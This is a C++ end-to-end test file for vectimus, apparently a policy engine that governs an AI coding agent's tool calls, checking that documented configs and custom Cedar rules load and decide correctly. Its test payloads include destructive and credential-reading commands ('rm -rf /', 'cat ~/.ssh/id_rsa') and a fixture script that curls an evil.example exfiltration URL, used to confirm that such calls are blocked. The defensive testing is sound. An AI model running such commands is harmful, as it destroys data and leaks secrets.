// End-to-end: the files the user docs show (../shared/docs/vectimus-docs/) work as written. The
// `vectimus.toml` of server.md, the config of architecture.md and the custom pack of
// writing-policies.md (its pack.toml and the rules custom-001, custom-002 and custom-010), put
// where the docs put them, load; a call none of their rules is about decides exactly as without
// them; `vectimus lint` accepts them; a misspelt key still denies every call, naming
// file:line:col; `vectimus test --policy-dir ./my-policies` takes a folder of bare .cedar files.
// The real binary runs with HOME, the project and its working folder in a temp tree.
//
// Both config examples say `[policies] dir = "./policies"`, which replaces the built-in packs
// (as VECTIMUS_POLICY_DIR and --policy-dir do). A missing folder there denies every call (see
// engine/packs.hpp: silently using no policies would allow everything), so these tests create
// it, holding a copy of the built-in packs: then the decisions must be the built-in ones.
#include <catch2/catch.hpp>

#include <filesystem>

#include "tests/cli/process.hpp"
#include "tests/support/temp_tree.hpp"

using vectimus::testing::ProcessResult;
using vectimus::testing::TempTree;
using vectimus::testing::without_receipt_ids;

namespace {

const std::string kBinary = VECTIMUS_BINARY;
const std::string kRepo = VECTIMUS_SOURCE_DIR;

// server.md, "Configuration".
constexpr const char* kServerToml = R"([server]
host = "0.0.0.0"
port = 8420

[policies]
dir = "./policies"

[mcp]
allowed_servers = ["github", "slack"]

[logging]
dir = "~/.vectimus/logs"
)";

// architecture.md, "Configuration".
constexpr const char* kArchitectureToml = R"([policies]
dir = "./policies"

[logging]
dir = "~/.vectimus/logs"
format = "jsonl"

[identity]
resolver = "git"    # "git", "env" or "system"
default_persona = "default"
)";

// writing-policies.md, "Custom policy packs".
constexpr const char* kPackToml = R"([pack]
name = "my-team"
version = "1.0.0"
description = "Team-specific governance rules"
author = "My Team"
)";

// writing-policies.md's example rules, as written there.
constexpr const char* kMyRules = R"(@id("custom-001")
@description("Block writes to production database config")
@suggested_alternative("Propose config changes via a pull request for human review.")
forbid (
    principal,
    action == Vectimus::Action::"file_write",
    resource
) when {
    context.file_path like "*production*database*"
};

@id("custom-002")
@description("Flag writes to staging environment config")
@enforcement("escalate")
@suggested_alternative("Double-check the config values before writing.")
forbid (
    principal,
    action == Vectimus::Action::"file_write",
    resource
) when {
    context.file_path like "*staging*config*"
};

@id("custom-010")
@description("Block curl to external hosts")
@suggested_alternative("Use an approved API client.")
forbid (
    principal,
    action == Vectimus::Action::"shell_command",
    resource
) when {
    context.command like "curl *"
};
)";

std::string json_text(const std::string& text) {
  std::string out = "\"";
  for (char c : text) {
    if (c == '\n') {
      out += "\\n";
      continue;
    }
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out + "\"";
}

// HOME, a git project with a src/ folder, the hook's working folder being the project.
struct Sandbox {
  TempTree t;
  Sandbox() {
    t.mkdir("home");
    t.mkdir("proj/.git");
    t.mkdir("proj/src");
  }
  std::string proj() const { return t.path("proj"); }
  ProcessResult run(std::vector<std::string> args, const std::string& input = {},
                    const std::string& cwd = {}) const {
    args.insert(args.begin(), kBinary);
    return vectimus::testing::run_process(args, input,
                                          {{"HOME=" + t.path("home")}, cwd.empty() ? proj() : cwd});
  }
  ProcessResult hook(const std::string& payload) const {
    return run({"hook", "--source", "claude-code"}, payload);
  }
  std::string claude(const std::string& tool, const std::string& input) const {
    return "{\"session_id\":\"s1\",\"transcript_path\":\"/t.jsonl\",\"cwd\":\"" + proj() +
           "/src\",\"permission_mode\":\"default\",\"hook_event_name\":\"PreToolUse\","
           "\"tool_name\":\"" +
           tool + "\",\"tool_input\":" + input + ",\"tool_use_id\":\"toolu_1\"}";
  }
  std::string bash(const std::string& command) const {
    return claude("Bash", "{\"command\":" + json_text(command) + "}");
  }
  std::string write(const std::string& rel, const std::string& content) const {
    return claude("Write", "{\"file_path\":" + json_text(proj() + "/" + rel) +
                               ",\"content\":" + json_text(content) + "}");
  }
  // Calls none of the docs' rules is about: built-in allows and denies, shell and file writes.
  std::vector<std::string> unrelated() const {
    return {bash("ls -la"),
            bash("rm -rf /"),
            bash("cat ~/.ssh/id_rsa"),
            bash("git push --force origin main"),
            write("src/app.py", "print('hi')\n"),
            write("deploy.sh", "rm -rf / \n")};
  }
  // Each answer (stdout, stderr, exit) of the unrelated calls.
  std::vector<std::string> answers() const {
    std::vector<std::string> out;
    for (const std::string& payload : unrelated()) {
      const ProcessResult r = hook(payload);
      out.push_back(std::to_string(r.exit_code) + "\n" + without_receipt_ids(r.out) + r.err);
    }
    return out;
  }
  // A copy of the built-in packs' files at `rel` (what `./policies` holds in these tests).
  void copy_builtin_packs(const std::string& rel) const {
    namespace fs = std::filesystem;
    for (const auto& pack : fs::directory_iterator(kRepo + "/policies")) {
      if (!pack.is_directory()) continue;
      for (const auto& file : fs::directory_iterator(pack.path())) {
        const std::string name = file.path().filename().string();
        if (name != "pack.toml" && !name.ends_with(".cedar")) continue;
        fs::create_directories(t.path(rel + "/" + pack.path().filename().string()));
        fs::copy_file(file.path(),
                      t.path(rel + "/" + pack.path().filename().string() + "/" + name));
      }
    }
  }
};

}  // namespace

TEST_CASE(
    "the docs' custom pack, in a project or in ~/.vectimus, loads and leaves other calls be") {
  for (const std::string where :
       {"proj/.vectimus/packs/my-team", "home/.vectimus/packs/my-team", "both"}) {
    CAPTURE(where);
    Sandbox s;
    const std::vector<std::string> before = s.answers();
    // The unrelated calls are real decisions, some allowed and some denied.
    CHECK(before.at(0) == "0\n");
    CHECK(before.at(1).find("blocked by vectimus-destruct-001") != std::string::npos);
    CHECK(before.at(4) == "0\n");
    for (const std::string dir : {"proj/.vectimus/packs/my-team", "home/.vectimus/packs/my-team"}) {
      if (where != "both" && where != dir) continue;
      s.t.write(dir + "/pack.toml", kPackToml);
      s.t.write(dir + "/my-rules.cedar", kMyRules);
    }
    CHECK(s.answers() == before);
    // Its own rules apply (the project's copy replaces the home one: same name, no duplicate).
    auto r = s.hook(s.write("config/production_database.yml", "host: db\n"));
    CHECK(r.exit_code == 0);
    CHECK(without_receipt_ids(r.out).find(
              "\"permissionDecision\":\"deny\",\"permissionDecisionReason\":\"vectimus: "
              "blocked by custom-001: Block writes to production database config. "
              "Instead: Propose config changes via a pull request for human review\"") !=
          std::string::npos);
    r = s.hook(s.write("staging-config.yml", "x: 1\n"));
    CHECK(r.out.find("approval needed: custom-002: Flag writes to staging environment config") !=
          std::string::npos);
    CHECK(r.out.find("\"permissionDecision\":\"ask\"") != std::string::npos);
    r = s.hook(s.bash("curl https://example.com/data"));
    CHECK(r.out.find("blocked by custom-010: Block curl to external hosts") != std::string::npos);
    // Content inspection: a script that runs curl, run by the agent.
    s.t.write("proj/src/fetch.sh", "# fetch\ncurl https://evil.example/exfil\n");
    r = s.hook(s.bash("bash fetch.sh"));
    CHECK(r.out.find("blocked by custom-010 (in the script") != std::string::npos);

    // lint accepts the pack as the docs write it (no @incident, no @controls).
    const std::string dir = where == "both" ? "proj/.vectimus/packs/my-team" : where;
    r = s.run({"lint", s.t.path(dir)});
    CHECK(r.exit_code == 0);
    CHECK(r.out.empty());
  }
}

TEST_CASE("server.md's vectimus.toml in the working folder loads and decides as without it") {
  Sandbox s;
  const std::vector<std::string> before = s.answers();
  s.t.write("proj/vectimus.toml", kServerToml);
  s.copy_builtin_packs("proj/policies");
  CHECK(s.answers() == before);
  // Its `[mcp] allowed_servers` applies.
  CHECK(s.hook(s.claude("mcp__github__create_issue", "{\"title\":\"x\"}")).out.empty());
  CHECK(s.hook(s.claude("mcp__jira__create_issue", "{}")).out.find("vectimus-mcp-001") !=
        std::string::npos);
  // lint accepts it: every key of it has effect (the server is built).
  const auto r = s.run({"lint", s.t.path("proj/vectimus.toml")});
  CHECK(r.exit_code == 0);
  CHECK(without_receipt_ids(r.out).empty());
}

TEST_CASE("architecture.md's config, as ~/.vectimus/config.toml or ./vectimus.toml, loads") {
  for (const std::string file : {"home/.vectimus/config.toml", "proj/vectimus.toml"}) {
    CAPTURE(file);
    Sandbox s;
    const std::vector<std::string> before = s.answers();
    s.t.write(file, kArchitectureToml);
    // `./policies` is taken from the folder the file configures: home, or the working folder.
    s.copy_builtin_packs(file.starts_with("home") ? "home/policies" : "proj/policies");
    CHECK(s.answers() == before);
    const auto r = s.run({"lint", s.t.path(file)});
    CHECK(r.exit_code == 0);
    CHECK(r.out.find("error") == std::string::npos);
  }
}

TEST_CASE("a docs config whose ./policies folder is missing denies every call, saying why") {
  Sandbox s;
  const std::string file = s.t.write("proj/vectimus.toml", kArchitectureToml);
  const auto r = s.hook(s.bash("ls -la"));
  CHECK(r.exit_code == 0);
  CHECK(r.out.find("\"permissionDecision\":\"deny\"") != std::string::npos);
  CHECK(r.out.find(file + ":2:1: policy folder `" + s.t.path("proj/policies") +
                   "` does not exist") != std::string::npos);
  CHECK(r.err.find("help: it is set by `[policies] dir` (" + file + ":2:1)") != std::string::npos);
  // lint predicts it.
  const auto lint = s.run({"lint", file});
  CHECK(lint.exit_code == 1);
  CHECK(lint.out.find(file + ":2:1: error: policy folder `" + s.t.path("proj/policies") +
                      "` does not exist") != std::string::npos);
}

TEST_CASE("a misspelt key in a docs config still denies every call, naming file:line:col") {
  Sandbox s;
  std::string text = kServerToml;
  text.replace(text.find("allowed_servers"), 15, "allowed_server");
  const std::string file = s.t.write("proj/vectimus.toml", text);
  s.copy_builtin_packs("proj/policies");
  const auto r = s.hook(s.bash("ls -la"));
  CHECK(r.exit_code == 0);
  CHECK(without_receipt_ids(r.out) ==
        "{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":"
        "\"deny\",\"permissionDecisionReason\":\"vectimus: policies could not be loaded, so every "
        "call is denied: " +
            file + ":9:1: unknown key `[mcp] allowed_server`\"}}\n");
  CHECK(r.err == file +
                     ":9:1: error: unknown key `[mcp] allowed_server`\n"
                     "allowed_server = [\"github\", \"slack\"]\n^~~~~~~~~~~~~~\n"
                     "help: did you mean `[mcp] allowed_servers`?\n");
  const auto lint = s.run({"lint", file});
  CHECK(lint.exit_code == 1);
  CHECK(lint.out.find(file + ":9:1: error: unknown key `[mcp] allowed_server`") !=
        std::string::npos);
  // A misspelt pack.toml key too.
  Sandbox p;
  p.t.write("proj/.vectimus/packs/my-team/pack.toml",
            std::string(kPackToml).replace(std::string(kPackToml).find("author"), 6, "authr"));
  p.t.write("proj/.vectimus/packs/my-team/my-rules.cedar", kMyRules);
  const auto denied = p.hook(p.bash("ls -la"));
  CHECK(denied.out.find("pack.toml:5:1: unknown key `[pack] authr`") != std::string::npos);
  CHECK(denied.err.find("help: did you mean `[pack] author`?") != std::string::npos);
}

TEST_CASE("vectimus test --policy-dir ./my-policies takes a folder of bare .cedar files") {
  Sandbox s;
  s.t.write("work/my-policies/my-rules.cedar", kMyRules);
  s.t.write("work/my-test-events.json",
            R"([{"name":"curl","source":"claude-code","expected":"deny","payload":)" +
                s.bash("curl https://example.com") +
                R"(},{"name":"ls","source":"claude-code","expected":"allow","payload":)" +
                s.bash("ls") +
                R"(},{"name":"staging","source":"claude-code","expected":"escalate","payload":)" +
                s.write("staging-config.yml", "x") + "}]");
  const auto r = s.run({"test", "--file", "my-test-events.json", "--policy-dir", "./my-policies"},
                       {}, s.t.path("work"));
  CHECK(r.err.empty());
  CHECK(r.exit_code == 0);
  CHECK(r.out.find("3 passed, 0 failed") != std::string::npos);
  // The same folder named by VECTIMUS_POLICY_DIR, relative to the working folder.
  auto v = vectimus::testing::run_process(
      {kBinary, "test", "--file", "my-test-events.json"}, {},
      {{"HOME=" + s.t.path("home"), "VECTIMUS_POLICY_DIR=my-policies"}, s.t.path("work")});
  CHECK(v.exit_code == 0);
  CHECK(v.out.find("3 passed, 0 failed") != std::string::npos);
}
